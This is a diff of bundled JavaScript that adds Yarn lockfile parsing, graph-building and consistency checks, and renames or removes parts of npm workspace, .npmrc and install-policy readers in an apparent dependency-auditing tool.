+  return folder === null ? null : pathFrom(folder, selector);
+}
+function askingFolder(params, depth) {
+  const parent = params.get("locator");
+  return parent === void 0 ? "" : located(parent, "", depth + 1)?.target ?? null;
+}
+function patchedAt({ source, version, selector, params }, depth) {
+  const written6 = selector.split("&", MOST_PATCHES + 1);
+  if (written6.length > MOST_PATCHES) return null;
+  const inner = source === null ? null : located(source, version, depth + 1);
+  if (inner === null || inner.kind === "project") return null;
+  const folder = askingFolder(params, depth);
+  const paths3 = written6.filter((patch) => !BUILTIN.test(patch)).map((patch) => patchPath(patch, folder));
+  const patches = paths3.filter((path) => path !== null);
+  return patches.length < paths3.length ? null : { ...inner, kind: "patched", patches: [...inner.patches, ...patches] };
+}
+function patchPath(written6, folder) {
+  const patch = written6.slice(written6.lastIndexOf("!") + 1);
+  if (patch === "" || /[<>]/.test(patch)) return null;
+  if (patch.startsWith("~/")) return pathFrom("", patch.slice(2));
+  return folder === null ? null : pathFrom(folder, patch);
+}
+
+// src/formats/yarn-berry.ts
+var OF_FOLDER = "0.0.0";
+var OF_FOLDER_IN_BERRY = "0.0.0-use.local";
+function berryEntries(block) {
+  const faults = unreadFields4("berry", block.fields);
+  const text3 = (field2) => asString(member(block.fields, field2));
+  const [locator, version] = [text3("resolution") ?? "", text3("version") ?? ""];
+  const found9 = located(locator, version);
+  if (found9 === null) {
+    faults.push({ field: "resolution", reason: "says nothing that Yarn is known to write." });
+    return { entries: [], faults };
+  }
+  const fault = faultOf4(block, found9, version);
+  if (fault !== void 0) faults.push(fault);
+  const { name, source, kind, target } = found9;
+  const at2 = member(block.fields, "resolution")?.at ?? block.fields.at;
+  const entry = {
+    ...{ block, locator, name, source, kind, target, descriptors: block.descriptors },
+    version: found9.version ?? (found9.isSoft ? OF_FOLDER : version),
+    integrity: text3("checksum") ?? null,
+    wants: wantsOf(block),
+    patches: found9.patches.map((value) => ({ name: "patch", value, at: at2 }))
+  };
+  return { entries: [entry], faults };
+}
+function faultOf4(block, found9, version) {
+  if (!isPackageName(found9.name))
+    return { field: "resolution", reason: "names no package that could be published." };
+  if (isUnpinned(found9.source)) return { field: "resolution", reason: "names no commit that pins it." };
+  if (asString(member(block.fields, "linkType")) !== (found9.isSoft ? "soft" : "hard"))
+    return { field: "linkType", reason: "isn't what Yarn writes for such a package." };
+  const isRight = found9.isSoft ? version === OF_FOLDER_IN_BERRY : isVersion(version);
+  if (isRight && (found9.version ?? version) === version) return void 0;
+  return { field: "version", reason: "isn't the version that Yarn would write there." };
+}
+function wantsOf(block) {
+  const wanted = member(block.fields, "dependencies");
+  if (wanted?.kind !== "object") return [];
+  return [...wanted.entries].map(([name, { value }]) => {
+    const isOptional = asString(pick(block.fields, "dependenciesMeta", name, "optional")) === "true";
+    return { name, text: asString(value) ?? "", isOptional };
+  });
+}
+
+// src/formats/yarn-classic.ts
+function classicEntries(block) {
+  const faults = unreadFields4("classic", block.fields);
+  const byName = Map.groupBy(block.descriptors, realName);
+  const entries = [];
+  for (const [name, descriptors] of byName) {
+    if (!isPackageName(name))
+      faults.push({ field: null, reason: "asks for no package that could be published." });
+    const entry = entryOf2(block, name, descriptors);
+    const fault = faultOf5(entry);
+    if (fault !== void 0) faults.push(fault);
+    entries.push(entry);
+  }
+  return { entries, faults };
+}
+function realName(descriptor) {
+  const { name, text: text3 } = asked(descriptor) ?? { name: descriptor, text: "" };
+  return /^npm:(@?[^@]*)/.exec(text3)?.[1] ?? name;
+}
+function entryOf2(block, name, descriptors) {
+  const text3 = (field2) => asString(member(block.fields, field2));
+  const [version, resolved3] = [text3("version") ?? "", text3("resolved")];
+  const target = resolved3 === void 0 ? folderOf3(descriptors) : null;
+  const source = target === null ? sourceOf3({ name, version }, resolved3 ?? "") : THIS_REPOSITORY;
+  return {
+    ...{ block, descriptors, name, version, source, target, kind: "package", locator: null, patches: [] },
+    integrity: integrityOf(text3("integrity"), resolved3, source),
+    wants: wantsOf2(block)
+  };
+}
+function folderOf3(descriptors) {
+  const folders = new Set(descriptors.map(folderIn));
+  const [folder = null] = folders;
+  return folders.size === 1 ? folder : null;
+}
+function folderIn(descriptor) {
+  const [, path] = /^(?:file:|link:|(?=\.{1,2}\/))(.*)$/.exec(asked(descriptor)?.text ?? "") ?? [];
+  return path === void 0 ? null : pathFrom("", path);
+}
+function sourceOf3(release, resolved3) {
+  const [url = "", hash = null] = resolved3.split("#");
+  if (/^(?:git(?:\+[a-z0-9]+)?|ssh):/.test(url) || url.endsWith(".git") && !url.includes("?"))
+    return gitSource2(url, hash);
+  if (!url.startsWith("file:")) return addressSource(release, url);
+  const path = pathFrom("", url.slice("file:".length));
+  return path === null ? { kind: "unknown", text: url } : fileSource(path);
+}
+function integrityOf(written6, resolved3, source) {
+  if (written6 !== void 0) return isIntegrity(written6) ? written6 : null;
+  const sha1 = /^[^#]*#([0-9a-f]{40})(?:#|$)/.exec(resolved3 ?? "")?.[1];
+  return sha1 === void 0 || source.kind === "git" ? null : `sha1-${base64(sha1)}`;
+}
+function base64(hex) {
+  const bytes = Array.from(
+    { length: hex.length / 2 },
+    (_3, at2) => Number.parseInt(hex.slice(2 * at2, 2 * at2 + 2), 16)
+  );
+  return btoa(String.fromCharCode(...bytes));
+}
+function wantsOf2(block) {
+  const tables2 = [
+    ["dependencies", false],
+    ["optionalDependencies", true]
+  ];
+  return tables2.flatMap(([table2, isOptional]) => {
+    const wanted = member(block.fields, table2);
+    if (wanted?.kind !== "object") return [];
+    return [...wanted.entries].map(([name, { value }]) => ({
+      name,
+      text: asString(value) ?? "",
+      isOptional
+    }));
+  });
+}
+function faultOf5({ block, version, source, target }) {
+  if (!isVersion(version)) return { field: "version", reason: "isn't a version." };
+  if (isUnpinned(source)) return { field: "resolved", reason: "names no commit that pins it." };
+  if (target !== null || member(block.fields, "resolved") !== void 0) return void 0;
+  return {
+    field: null,
+    reason: "has no address (`resolved`), so that Yarn takes the newest release that fits."
+  };
+}
+
+// src/formats/yarn-graph.ts
+var MOST_GAPS = 1e3;
+var MOST_GUESSES = 8;
+var YarnGraph = class {
+  #file;
+  #style;
+  #drafts = /* @__PURE__ */ new Map();
+  /** Of packages that share the base of a key: their keys by what tells them apart, and how many there are. */
+  #keys = /* @__PURE__ */ new Map();
+  #counts = /* @__PURE__ */ new Map();
+  /** The keys of what answers each descriptor; null for a project. */
+  #answers = /* @__PURE__ */ new Map();
+  /** Keys that answer descriptors of a name; made when something has no answer. */
+  #byName = null;
+  #projects = /* @__PURE__ */ new Map();
+  /** The locators of projects, by folder. */
+  #locators = /* @__PURE__ */ new Map();
+  #entries;
+  #gaps = [];
+  constructor(file2, style, entries) {
+    this.#file = file2;
+    this.#style = style;
+    const isPatched = ({ kind }) => kind === "patched";
+    this.#entries = [...entries.filter((each) => !isPatched(each)), ...entries.filter(isPatched)];
+    const holders = this.#entries.map((entry) => this.#hold(entry));
+    this.#refuseSameLocators();
+    const missing2 = /* @__PURE__ */ new Map();
+    for (const [index, entry] of this.#entries.entries()) this.#follow(entry, holders[index], missing2);
+    const unasked = this.#unasked(missing2);
+    for (const [descriptor, entry] of missing2) this.#tellMissing(descriptor, entry, unasked);
+  }
+  read() {
+    return {
+      packages: new Map([...this.#drafts].map(([key, draft]) => [key, packageOf2(draft)])),
+      projects: new Map([...this.#projects].map(([folder, needs]) => [folder, [...needs]])),
+      settings: this.#settings(),
+      answerTo: (folder, name, text3) => this.#answerTo(folder, name, text3)
+    };
+  }
+  gaps() {
+    return this.#gaps;
+  }
+  /** Keeps a package or project and the descriptors that it answers; gives the set for what it needs. */
+  #hold(entry) {
+    if (entry.kind === "project") return this.#holdProject(entry);
+    const key = this.#keyOf(entry);
+    const draft = this.#drafts.get(key) ?? { entry, names: /* @__PURE__ */ new Set(), needs: /* @__PURE__ */ new Set() };
+    this.#drafts.set(key, draft);
+    this.#answer(entry, key);
+    for (const descriptor of entry.descriptors) draft.names.add(nameIn4(descriptor));
+    return draft.needs;
+  }
+  #holdProject(entry) {
+    const folder = entry.target ?? "";
+    this.#answer(entry, null);
+    if (entry.locator !== null) this.#locators.set(folder, entry.locator);
+    const needs = this.#projects.get(folder) ?? /* @__PURE__ */ new Set();
+    this.#projects.set(folder, needs);
+    return needs;
+  }
+  /** Several blocks may tell of one package; those that tell different things of it keep apart. */
+  #keyOf(entry) {
+    const base = keyOf3(entry);
+    const first = this.#drafts.get(base)?.entry;
+    if (first === void 0 || entry.kind === "patched" || isSame2(first, entry)) return base;
+    const identity = wordsOf(base, entry.version, entry.integrity);
+    const known7 = this.#keys.get(identity);
+    if (known7 !== void 0) return known7;
+    const count = (this.#counts.get(base) ?? 1) + 1;
+    this.#counts.set(base, count);
+    const key = `${base} (${count})`;
+    this.#keys.set(identity, key);
+    return key;
+  }
+  /** Notes which descriptors a block answers. Where two blocks answer one, Yarn takes the last. */
+  #answer({ block, descriptors }, key) {
+    for (const descriptor of descriptors) {
+      if (this.#answers.has(descriptor)) this.#tellTwice(block.fields.at, descriptor);
+      this.#answers.set(descriptor, key);
+    }
+  }
+  #tellTwice(at2, text3) {
+    if (this.#gaps.length > MOST_GAPS) return;
+    const message = `${code(text3)} stands twice in ${code(this.#file.path)}; readers differ in which entry counts.`;
+    this.#gaps.push(gapAt(at2, { kind: "dynamic", rests: contentOf(this.#file), message }));
+  }
+  /** Later Yarns keep one package for each locator, so that the last of two blocks counts. */
+  #refuseSameLocators() {
+    const seen = /* @__PURE__ */ new Set();
+    for (const { locator, block } of this.#entries) {
+      if (locator === null) continue;
+      if (seen.has(locator))
+        this.#tellTwice(member(block.fields, "resolution")?.at ?? block.fields.at, locator);
+      seen.add(locator);
+    }
+  }
+  #follow(entry, needs, missing2) {
+    for (const { name, text: text3, isOptional } of entry.wants) {
+      const descriptor = this.#found(name, text3, entry.locator);
+      const key = descriptor === void 0 ? null : this.#answers.get(descriptor);
+      if (key != null) needs?.add(key);
+      if (descriptor !== void 0) continue;
+      const guesses = this.#guesses(name);
+      for (const guess of guesses ?? []) needs?.add(guess);
+      if (!isOptional && !(entry.kind === "project" && guesses !== void 0))
+        missing2.set(`${name}@${text3}`, entry);
+    }
+  }
+  /** What answers descriptors of a name; undefined where nothing does. Yarn 1 writes down what was asked for. */
+  #guesses(name) {
+    if (this.#style === "classic") return void 0;
+    this.#byName ??= keysByName(this.#answers);
+    return this.#byName.get(name);
+  }
+  /**
+   * The descriptor that the lockfile has for a requirement. Later Yarns add `npm:` to what names no protocol, and to a path the
+   * package to whose folder it is relative.
+   */
+  #found(name, text3, locator) {
+    const exact = `${name}@${text3}`;
+    if (this.#answers.has(exact)) return exact;
+    if (this.#style === "classic") return void 0;
+    const released2 = `${name}@npm:${text3}`;
+    if (this.#answers.has(released2)) return released2;
+    const bound = locator === null ? "" : `${exact}::locator=${encodeURIComponent(locator)}`;
+    return this.#answers.has(bound) ? bound : void 0;
+  }
+  /** What is used from its folder, and not packed and copied, is no package for a manifest. */
+  #answerTo(folder, name, text3) {
+    if (this.#style === "classic" && text3.startsWith("link:")) return null;
+    const descriptor = this.#found(name, text3, this.#locators.get(folder) ?? null);
+    if (descriptor === void 0) return void 0;
+    return /^(?:link|portal):/.test(text3) ? null : this.#answers.get(descriptor);
+  }
+  /** The names of which no block asks for some descriptor: something else decides what they are. */
+  #unasked(missing2) {
+    if (missing2.size === 0 || this.#style === "classic") return /* @__PURE__ */ new Set();
+    const wanted = /* @__PURE__ */ new Set();
+    for (const { wants, locator } of this.#entries)
+      for (const { name, text: text3 } of wants) wanted.add(this.#found(name, text3, locator));
+    const unasked = [...this.#answers.keys()].filter((descriptor) => !wanted.has(descriptor));
+    return new Set(unasked.map(nameIn4));
+  }
+  /**
+   * Yarn takes the newest release that fits what has no entry. Where `resolutions` rewrite it, the lockfile has an entry that no
+   * block asks for. What a project asks for, its manifest tells better.
+   */
+  #tellMissing(descriptor, { block }, unasked) {
+    if (this.#gaps.length > MOST_GAPS) return;
+    const entry = code(block.descriptors.join(", "));
+    const message = `The entry ${entry} asks for ${code(descriptor)}, which has no entry, so Yarn may take the newest release that fits.`;
+    const rests = wordsOf("yarn", "no entry", descriptor);
+    const blocking = !unasked.has(nameIn4(descriptor));
+    this.#gaps.push(gapAt(block.fields.at, { kind: "not-followed", rests, message, blocking }));
+  }
+  /** Yarn may patch what the repository patches: then the longer locator has the shorter one within. */
+  #settings() {
+    const length = ({ locator }) => locator?.length ?? 0;
+    const patched = this.#entries.filter(({ patches }) => patches.length > 0);
+    const byPath2 = /* @__PURE__ */ new Map();
+    for (const { patches } of patched.toSorted((one2, other) => length(one2) - length(other)))
+      for (const patch of patches) if (!byPath2.has(patch.value)) byPath2.set(patch.value, patch);
+    return [...byPath2.values()].sort((one2, other) => comparePlaces(one2.at, other.at));
+  }
+};
+function nameIn4(descriptor) {
+  return asked(descriptor)?.name ?? descriptor;
+}
+function keysByName(answers) {
+  const byName = /* @__PURE__ */ new Map();
+  for (const [descriptor, key] of answers) {
+    const keys = byName.get(nameIn4(descriptor)) ?? [];
+    if (key !== null && keys.length < MOST_GUESSES) keys.push(key);
+    byName.set(nameIn4(descriptor), keys);
+  }
+  return byName;
+}
+function isSame2(one2, other) {
+  return one2.version === other.version && one2.integrity === other.integrity && isSameSource(one2.source, other.source);
+}
+function keyOf3({ name, version, source, target }) {
+  if (source.kind === "registry") return `${name}@${version}`;
+  return `${name}@${sourceText(source)}${target === null ? "" : ` ${target}`}`;
+}
+function packageOf2({ entry, names: names3, needs }) {
+  const { block, name, version, source, kind, target, locator } = entry;
+  const isClassic = locator === null;
+  const placeOf8 = (field2) => member(block.fields, field2)?.at;
+  const at2 = block.fields.at;
+  const sourceAt = placeOf8(isClassic ? "resolved" : "resolution") ?? at2;
+  return {
+    ...{ name, version, source, target, at: at2 },
+    integrity: kind === "patched" ? null : entry.integrity,
+    isArchiveHash: isClassic,
+    hasInstallScript: null,
+    scope: { isDev: false, isOptional: false },
+    names: [...names3],
+    needs: [...needs],
+    lines: {
+      version: placeOf8("version") ?? at2,
+      source: sourceAt,
+      // The hash of an old Yarn 1 stands behind the address.
+      checksum: placeOf8(isClassic ? "integrity" : "checksum") ?? (isClassic ? sourceAt : at2)
+    }
+  };
+}
+
+// src/formats/yarn-lines.ts
+var MOST_LINES3 = 1e6;
+var LONGEST_LINE2 = 65536;
+var LONGEST_BLOCK = 2e4;
+var MOST_DUPLICATES = 100;
+var DEEPEST5 = 3;
+var ODD = /[\0-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\ufeff\ufffe\uffff]|\r(?!\n)/;
+var QUOTED = '"([^"\\\\]*)"';
+var WORD2 = {
+  classic: '(?!true|false)[A-Za-z][^:\\s\\\\",[\\]]*',
+  berry: "[^-?:,\\][{}#&*!|>'\"%@` ](?: *[^,\\][{}:# ])*"
+};
+var FIELD = {
+  classic: new RegExp(`^ +(?:(${WORD2.classic})|${QUOTED})(?::|( )(?:(${WORD2.classic})|${QUOTED}))$`),
+  berry: new RegExp(`^ +(?:(${WORD2.berry})|${QUOTED}):(?:( )(?:(${WORD2.berry})|${QUOTED}))?$`)
+};
+var BARE = {
+  classic: new RegExp(`^${WORD2.classic}$`),
+  berry: new RegExp(`^${WORD2.berry}$`)
+};
+var CLASSIC_DESCRIPTOR = new RegExp(`(?:(${WORD2.classic})|${QUOTED})(?:, (?=.)|:$)`, "y");
+var BERRY_DESCRIPTORS = new RegExp(`^(?:(?!\\.\\.\\.)(${WORD2.berry})|${QUOTED}):$`);
+var HEADERS = /* @__PURE__ */ new Map([
+  ["# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.\n# yarn lockfile v1", "classic"],
+  [
+    '# This file is generated by running "yarn install" inside your project.\n# Manual changes might be lost - proceed with caution!',
+    "berry"
+  ]
+]);
+var VERSIONS = /^# (?:yarn|node) v[0-9][0-9A-Za-z.+-]*$/;
+function yarnLines(file2) {
+  return new LineReader2(file2).read();
+}
+var LineReader2 = class {
+  #path;
+  #lines;
+  #style;
+  #blocks = [];
+  #duplicates = [];
+  /** The tables that the next line may belong to, by their depth; none between blocks. */
+  #open = [];
+  #at = 0;
+  constructor({ path, text: text3 }) {
+    this.#path = path;
+    const odd = ODD.exec(text3);
+    if (!text3.isWellFormed()) throw new Unreadable("It has half of a character.", 0);
+    if (odd !== null) throw new Unreadable("A character is none that Yarn writes.", odd.index);
+    this.#lines = text3.split("\n", MOST_LINES3 + 1);
+    if (this.#lines.length > MOST_LINES3) throw new Unreadable("It has too many lines.", text3.length);
+    if (this.#lines.at(-1) !== "") throw new Unreadable("Its last line has no end.", text3.length);
+    const header = `${this.#line(0)}
+${this.#line(1)}`;
+    const style = HEADERS.get(header);
+    if (style === void 0) throw new Unreadable("It doesn't begin as Yarn begins a lockfile.", 0);
+    this.#style = style;
+    this.#at = 2;
+    while (style === "classic" && VERSIONS.test(this.#line(this.#at))) this.#at += 1;
+  }
+  read() {
+    let isAfterBlank = false;
+    for (; this.#at < this.#lines.length; this.#at += 1) {
+      const line = this.#line(this.#at);
+      if (line.length > LONGEST_LINE2) throw this.#refused("The line is too long.");
+      if (line === "") this.#close(0);
+      else if (line.startsWith(" ")) this.#field(line);
+      else if (isAfterBlank) this.#block(line);
+      else throw this.#refused("A package begins without a blank line before it.");
+      isAfterBlank = line === "";
+    }
+    return { style: this.#style, blocks: this.#blocks, duplicates: this.#duplicates };
+  }
+  /** A line as it counts: one of Windows ends with a carriage return too. */
+  #line(index) {
+    const line = this.#lines[index] ?? "";
+    return line.endsWith("\r") ? line.slice(0, -1) : line;
+  }
+  #block(line) {
+    const at2 = this.#place(1);
+    const fields2 = { kind: "object", entries: /* @__PURE__ */ new Map(), at: at2 };
+    const descriptors = this.#style === "classic" ? this.#classicKeys(line) : this.#berryKeys(line);
+    this.#blocks.push({ descriptors, fields: fields2 });
+    this.#open.push(fields2);
+  }
+  /** `a@^1.0.0, "a@npm:b@1":` */
+  #classicKeys(line) {
+    const keys = [];
+    CLASSIC_DESCRIPTOR.lastIndex = 0;
+    while (CLASSIC_DESCRIPTOR.lastIndex < line.length) {
+      const [all, bare, quoted4] = CLASSIC_DESCRIPTOR.exec(line) ?? [];
+      const key = all === void 0 ? "" : this.#word(bare, quoted4);
+      if (key === "") throw this.#refused(NOT_YARNS);
+      keys.push(key);
+    }
+    return keys;
+  }
+  /** `"a@npm:^1.0.0, a@npm:^1.1.0":` */
+  #berryKeys(line) {
+    const [, bare, quoted4] = BERRY_DESCRIPTORS.exec(line) ?? this.#longKeys(line);
+    const text3 = this.#word(bare, quoted4);
+    const keys = text3.split(/ *, */);
+    if (keys.includes("") || keys.join(", ") !== text3) throw this.#refused(NOT_YARNS);
+    return keys;
+  }
+  /** YAML has two lines for a key of more than 1,024 characters: `? "…"` and `:`. */
+  #longKeys(line) {
+    if (!line.startsWith("? ") || this.#line(this.#at + 1) !== ":") return [];
+    this.#at += 1;
+    return BERRY_DESCRIPTORS.exec(`${line.slice(2)}:`) ?? [];
+  }
+  #field(line) {
+    const [all, bare, quoted4, hasText2, bareText, quotedText] = FIELD[this.#style].exec(line) ?? [];
+    const indent = indentOf(line);
+    if (all === void 0) throw this.#refused(NOT_YARNS);
+    const depth = indent / 2;
+    if (!Number.isInteger(depth) || depth > this.#open.length)
+      throw this.#refused("The indentation isn't Yarn's.");
+    this.#close(depth);
+    const name = this.#word(bare, quoted4);
+    if (name === "") throw this.#refused(NOT_YARNS);
+    const key = this.#place(indent + 1);
+    if (hasText2 === void 0) {
+      this.#table(name, key, depth);
+      return;
+    }
+    const text3 = this.#word(bareText, quotedText);
+    this.#set(name, { key, value: { kind: "string", value: text3, at: key } });
+  }
+  #table(name, key, depth) {
+    const made2 = { kind: "object", entries: /* @__PURE__ */ new Map(), at: key };
+    this.#set(name, { key, value: made2 });
+    if (depth >= DEEPEST5) throw this.#refused("The line lies deeper than Yarn would write it.");
+    this.#open.push(made2);
+  }
+  #set(name, field2) {
+    const entries = this.#open.at(-1)?.entries;
+    if (entries?.has(name)) this.#duplicates.push({ name, at: field2.key });
+    if (this.#duplicates.length > MOST_DUPLICATES) throw this.#refused("Too many fields stand twice.");
+    if (field2.key.line - (this.#open[0]?.at.line ?? 0) > LONGEST_BLOCK)
+      throw this.#refused("The package is too long.");
+    entries?.set(name, field2);
+  }
+  /** Ends the tables below a depth. Yarn writes none without a field, and its parsers differ in what one would mean. */
+  #close(depth) {
+    if (this.#open.length === depth) return;
+    if (this.#open.at(-1)?.entries.size === 0) throw this.#refused("There is nothing in the table above.");
+    this.#open.length = depth;
+  }
+  #word(bare, quoted4) {
+    if (quoted4 === void 0) return bare ?? "";
+    if (BARE[this.#style].test(quoted4)) throw this.#refused("Yarn writes no quotes where none are needed.");
+    return quoted4;
+  }
+  #refused(message) {
+    const before2 = this.#lines.slice(0, this.#at).map((line) => line.length + 1);
+    return new Unreadable(
+      message,
+      before2.reduce((sum, length) => sum + length, 0)
+    );
+  }
+  #place(column) {
+    return { path: this.#path, line: this.#at + 1, column, endLine: this.#at + 1 };
+  }
+};
+function indentOf(line) {
+  let indent = 0;
+  while (line.charCodeAt(indent) === SPACE3) indent += 1;
+  return indent;
+}
+var SPACE3 = 32;
+var NOT_YARNS = "The line is none that Yarn writes.";
+
+// src/formats/yarn-lock.ts
+var [OLDEST2, NEWEST3] = [4, 10];
+var MOST_PACKAGES3 = 1e5;
+var LONGEST5 = 32 * 1024 * 1024;
+function readYarnLock(file2) {
+  const lock = read5.get(file2) ?? lockIn3(file2);
+  read5.set(file2, lock);
+  return lock;
+}
+var read5 = /* @__PURE__ */ new WeakMap();
+function lockIn3(file2) {
+  if (file2.text === "") return empty3(file2.path, "", []);
+  if (file2.text.length > LONGEST5) return tooLarge(file2);
+  try {
+    return modelOf2(file2, yarnLines(file2));
+  } catch (error) {
+    if (!(error instanceof Unreadable)) throw error;
+    const message = `${code(file2.path)} isn't written as Yarn writes it, so no version in it counts: ${error.message}`;
+    const at2 = placesIn(file2)(error.offset, error.offset);
+    return empty3(file2.path, "", [gapAt(at2, { kind: "unparsed", rests: contentOf(file2), message })]);
+  }
+}
+function modelOf2(file2, { style, blocks, duplicates: duplicates2 }) {
+  if (blocks.length > MOST_PACKAGES3) return tooLarge(file2);
+  const gaps = duplicates2.map(({ name, at: at2 }) => {
+    const message = `${code(name)} stands twice in one table of ${code(file2.path)}; readers differ in which one counts.`;
+    return gapAt(at2, { kind: "dynamic", rests: contentOf(file2), message });
+  });
+  if (style === "classic") return linked(file2, "1", blocks, classicEntries, gaps);
+  const [metadata, ...rest2] = blocks;
+  if (metadata?.descriptors[0] !== METADATA2)
+    throw new Unreadable(`It doesn't begin with ${code(METADATA2)}.`, 0);
+  const version = asString(member(metadata.fields, "version")) ?? "";
+  if (!/^\d{1,3}$/.test(version) || Number(version) < OLDEST2 || Number(version) > NEWEST3) {
+    const message = `${code(file2.path)} has a format that no known Yarn writes. Formats ${OLDEST2} to ${NEWEST3} are read.`;
+    return empty3(file2.path, version, [
+      gapIn(file2.path, { kind: "unsupported", rests: contentOf(file2), message })
+    ]);
+  }
+  for (const fault of unreadFields4("metadata", metadata.fields)) gaps.push(faultIn(metadata, fault));
+  return linked(file2, version, rest2, berryEntries, gaps);
+}
+var METADATA2 = "__metadata";
+function linked(file2, version, blocks, entriesOf9, gaps) {
+  const all = [];
+  for (const block of blocks) {
+    const { entries, faults } = entriesOf9(block);
+    all.push(...entries);
+    for (const fault of faults.slice(0, MOST_FAULTS)) gaps.push(faultIn(block, fault));
+  }
+  const graph = new YarnGraph(file2, version === "1" ? "classic" : "berry", all);
+  gaps.push(...graph.gaps());
+  return { path: file2.path, manager: "yarn", version, ...graph.read(), gaps: cut(file2, gaps) };
+}
+var MOST_FAULTS = 3;
+function faultIn({ descriptors, fields: fields2 }, { field: field2, reason }) {
+  const entry = `the entry ${code(descriptors.join(", "))}`;
+  const subject = field2 === null ? `T${entry.slice(1)}` : `${code(field2)} of ${entry}`;
+  const message = `${subject} ${reason} Let Yarn write the lockfile anew.`;
+  const at2 = field2 === null ? fields2.at : fields2.entries.get(field2)?.key ?? fields2.at;
+  const rests = wordsOf("yarn entry", descriptors, field2, reason, plain(fields2));
+  return gapAt(at2, { kind: "not-followed", rests, message });
+}
+function cut(file2, gaps) {
+  if (gaps.length <= MOST_GAPS) return gaps;
+  const message = `${code(file2.path)} has more such entries than can be listed.`;
+  const rest2 = gapIn(file2.path, { kind: "truncated", rests: contentOf(file2), message });
+  return [...gaps.slice(0, MOST_GAPS), rest2];
+}
+function tooLarge(file2) {
+  const message = `${code(file2.path)} is longer than any real lockfile; none of its packages was compared.`;
+  const ignorance = { kind: "truncated", rests: contentOf(file2), message };
+  return empty3(file2.path, "", [gapIn(file2.path, ignorance)]);
+}
+function empty3(path, version, gaps) {
+  const nothing = { packages: /* @__PURE__ */ new Map(), projects: /* @__PURE__ */ new Map(), settings: [], answerTo: () => void 0 };
+  return { path, manager: "yarn", version, gaps, ...nothing };
 }
 
 // src/readers/npm-lock/workspaces.ts
@@ -19064,8 +21332,7 @@ function newWorkspaces(lock, { path, manifest: manifest2 }, { files, contents })
     return [gapAt(pattern.at, { kind: "not-checked", rests, message })];
   });
 }
-function workspacesOf({ path, manifest: manifest2 }, { files }) {
-  const patterns3 = patternsIn(manifest2);
+function workspacesOf({ path, manifest: manifest2, patterns: patterns3 = patternsIn(manifest2) }, { files }) {
   if (patterns3.length === 0) return [];
   return [...files.keys()].flatMap((each) => {
     const folder = baseName(each) === "package.json" ? below(path, folderOf(each)) : void 0;
@@ -19073,7 +21340,7 @@ function workspacesOf({ path, manifest: manifest2 }, { files }) {
     return folder === void 0 || pattern === void 0 ? [] : [{ folder, pattern }];
   });
 }
-function isWorkspace(folder, manifest2) {
+function isWorkspace2(folder, manifest2) {
   return patternFor(folder, patternsIn(manifest2)) !== void 0;
 }
 function patternsIn(manifest2) {
@@ -19081,10 +21348,10 @@ function patternsIn(manifest2) {
   return stringsOf(table2?.kind === "object" ? member(table2, "packages") : table2);
 }
 function patternFor(folder, patterns3) {
-  const last = patterns3.findLast(({ value }) => fits(partsOf9(value.replace(/^!/, "")), folder.split("/")));
+  const last = patterns3.findLast(({ value }) => fits(partsOf11(value.replace(/^!/, "")), folder.split("/")));
   return last?.value.startsWith("!") ? void 0 : last;
 }
-function partsOf9(pattern) {
+function partsOf11(pattern) {
   return pattern.split("/").filter((part) => part !== "" && part !== ".");
 }
 function fits(pattern, folder) {
@@ -19118,7 +21385,7 @@ function fitsName(pattern, name) {
 var NPM_LOCKS = ["npm-shrinkwrap.json", "package-lock.json"];
 function countingLock(folder, files) {
   const above = withAncestors(folder).slice(1);
-  const root = above.find((each) => isWorkspace(below(each, folder) ?? "", manifestIn3(each, files)));
+  const root = above.find((each) => isWorkspace2(below(each, folder) ?? "", manifestIn3(each, files)));
   return NPM_LOCKS.map((name) => inFolder(root ?? folder, name)).find((path) => files.has(path)) ?? null;
 }
 function manifestIn3(folder, files) {
@@ -19133,9 +21400,9 @@ var LARGEST2 = 1e6;
 function readNpmrc(file2) {
   const settings2 = file2.text.length > LARGEST2 ? void 0 : decoded2(file2.text);
   if (settings2 === void 0) return void 0;
-  const named9 = namesIn2(file2);
-  if (named9.some(({ name, isSection }) => isSection && typeof settings2[name] !== "object")) return void 0;
-  const lines2 = new Map(named9.map(({ name, at: at2 }) => [name, at2]));
+  const named10 = namesIn3(file2);
+  if (named10.some(({ name, isSection }) => isSection && typeof settings2[name] !== "object")) return void 0;
+  const lines2 = new Map(named10.map(({ name, at: at2 }) => [name, at2]));
   return Object.entries(settings2).map(([name, value]) => ({
     name,
     values: valuesOf2(value),
@@ -19143,9 +21410,9 @@ function readNpmrc(file2) {
     at: lines2.get(name) ?? topOf(file2.path)
   }));
 }
-function decoded2(text2) {
+function decoded2(text3) {
   try {
-    return (0, import_ini.decode)(text2.replace(/^\ufeff/, ""));
+    return (0, import_ini.decode)(text3.replace(/^\ufeff/, ""));
   } catch {
     return void 0;
   }
@@ -19154,7 +21421,7 @@ function valuesOf2(value) {
   if (Array.isArray(value)) return value.map(String);
   return [typeof value === "object" && value !== null ? "[section]" : String(value)];
 }
-function namesIn2(file2) {
+function namesIn3(file2) {
   const place = placesIn(file2);
   return [...file2.text.matchAll(/[^\r\n]+/g)].flatMap(({ 0: line, index }) => {
     const at2 = place(index, index + line.length);
@@ -19163,79 +21430,8 @@ function namesIn2(file2) {
   });
 }
 
-// src/readers/npm-lock/install-policy.ts
-var import_intersects = __toESM(require_intersects(), 1);
-var import_valid2 = __toESM(require_valid2(), 1);
-var BLOCKS_SCRIPTS = "12.0.0-0";
-function folderPolicy(manifest2, npmrc) {
-  const approvals = approvalsIn(manifest2, npmrc);
-  const scripts = scriptsOf(manifest2, npmrc);
-  const everything = settingOf4(npmrc, "dangerously-allow-all-scripts");
-  const waits2 = scripts === "approved" && (everything === void 0 || everything === "false");
-  return {
-    scripts: scripts === "approved" && !waits2 ? "all" : scripts,
-    settings: [...settingsIn(npmrc), ...approvalSettings(manifest2), ...repairsIn(manifest2)],
-    outcomeOf: (entry) => {
-      if (scripts === "none") return "never";
-      return !waits2 || isApproved(entry, approvals) ? "runs" : "waits";
-    }
-  };
-}
-function scriptsOf(manifest2, npmrc) {
-  if (settingOf4(npmrc, "ignore-scripts") === "true") return "none";
-  return refusesOlder(manifest2, npmrc) ? "approved" : "all";
-}
-function settingOf4(npmrc, name) {
-  const setting10 = npmrc.find((each) => each.name === name);
-  return setting10?.isList ? `[${setting10.values}]` : setting10?.values[0];
-}
-function refusesOlder(manifest2, npmrc) {
-  const engine = pick(manifest2, "devEngines", "packageManager");
-  const onFail = asString(member(engine, "onFail")) ?? "error";
